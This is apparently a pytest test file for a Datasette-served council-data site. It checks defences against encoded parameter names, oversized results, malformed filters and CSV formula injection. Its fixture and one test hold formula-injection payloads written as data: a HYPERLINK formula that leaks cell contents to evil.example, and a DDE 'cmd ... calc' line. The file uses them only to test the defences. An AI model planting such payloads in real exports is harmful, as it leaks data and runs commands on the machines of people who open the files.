"""Round 13 of attacks on the site, in process (a helper attacked a served copy): a typed
word that made a snippet hold the server, parameter names percent-encoded past the
request limits, wide results, formulas in CSV exports, a malformed __in filter."""

import sqlite3
from urllib.parse import quote

import pytest

from etl.serve import datasette_instance
from etl.site.search import MARK_CLOSE, MARK_OPEN, text_snippet


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    from bench.serving import write_site_db

    path = write_site_db(tmp_path_factory.mktemp("r13") / "ratsdaten.db", papers=60)
    with sqlite3.connect(path) as conn:
        conn.execute("update papers set name = :name where rowid = 1",
                     {"name": '=HYPERLINK("https://evil.example/?"&A1,"Klick")'})
        conn.execute("update papers set name = :name where rowid = 2", {"name": "-2+3"})
    return datasette_instance(path)


def test_a_typed_word_longer_than_any_word_is_not_searched():
    text = "a" * 5000 + " Turnhalle"
    assert text_snippet(text, "a" * 1000 + "b", MARK_OPEN, MARK_CLOSE) == text_snippet(text, "")
    assert MARK_OPEN not in text_snippet(text, "a" * 1000 + "b", MARK_OPEN, MARK_CLOSE)
    cut = text_snippet(text, "turnhalle " + "x" * 41, MARK_OPEN, MARK_CLOSE)
    assert MARK_OPEN + "Turnhalle" + MARK_CLOSE in cut


@pytest.mark.asyncio
@pytest.mark.parametrize("name", ["_facet", "%5Ffacet", "%5f%66acet"])
async def test_facets_are_counted_however_their_name_is_written(site, name):
    facets = "&".join(f"{name}=name" for _ in range(11))
    response = await site.client.get(f"/ratsdaten/papers.json?{facets}")
    assert response.status_code == 400 and "Facetten" in response.text
    assert (await site.client.get(f"/ratsdaten/papers.json?{name}=name")).status_code == 200


@pytest.mark.asyncio
@pytest.mark.parametrize("name", ["sql", "s%71l", "%73ql"])
async def test_written_sql_variables_are_counted_however_sql_is_written(site, name):
    sql = quote("select " + ", ".join(f":v{n}" for n in range(300)))
    response = await site.client.get(f"/ratsdaten.json?{name}={sql}")
    assert response.status_code == 400 and "Parameter" in response.text


@pytest.mark.asyncio
@pytest.mark.parametrize("size", ["%5Fsize=max", "_size=+1000", "_size=%201000"])
async def test_html_pages_keep_200_rows_however_size_is_written(site, size):
    page = await site.client.get(f"/ratsdaten/pages?{size}")
    assert page.status_code == 200
    assert page.text.count("<tr>") <= 201


@pytest.mark.asyncio
async def test_a_result_of_many_cells_is_refused_not_rendered(site):
    columns = ", ".join(f"i c{n}" for n in range(70))
    sql = f"with recursive r(i) as (select 1 union all select i + 1 from r limit 1000) " \
          f"select {columns} from r"
    wide = await site.client.get(f"/ratsdaten.json?sql={quote(sql)}")
    assert wide.status_code == 400 and "zu groß" in wide.json()["error"]
    narrow = sql.replace(columns, ", ".join(f"i c{n}" for n in range(30)))
    assert len((await site.client.get(f"/ratsdaten.json?sql={quote(narrow)}")).json()["rows"]) \
        == 1000


@pytest.mark.asyncio
async def test_csv_exports_defuse_formulas_and_keep_numbers(site):
    csv = (await site.client.get("/ratsdaten/papers.csv?_col=name&_size=max")).text
    assert "'=HYPERLINK" in csv and '"=HYPERLINK' not in csv
    assert ",'-2+3\r\n" in csv  # starts like a number, is a formula
    sql = quote("select -250 as amount, '+3,5' as share, '@SUM(A1)' as cell, '-' as dash, "
                "'- Punkt' as item, '-1+cmd|'' /C calc''!A0' as dde")
    rows = (await site.client.get(f"/ratsdaten.csv?sql={sql}")).text.splitlines()
    assert rows[1] == "-250,\"+3,5\",'@SUM(A1),-,- Punkt,'-1+cmd|' /C calc'!A0"
    json_name = (await site.client.get("/ratsdaten/papers/p00000.json?_shape=array")).json()
    assert json_name[0]["name"].startswith("=HYPERLINK")  # JSON is data, unchanged


@pytest.mark.asyncio
async def test_a_malformed_in_filter_is_the_visitors_error(site):
    response = await site.client.get("/ratsdaten/papers?rowid__in=%5B1")
    assert response.status_code == 400
    assert "__in" in response.text
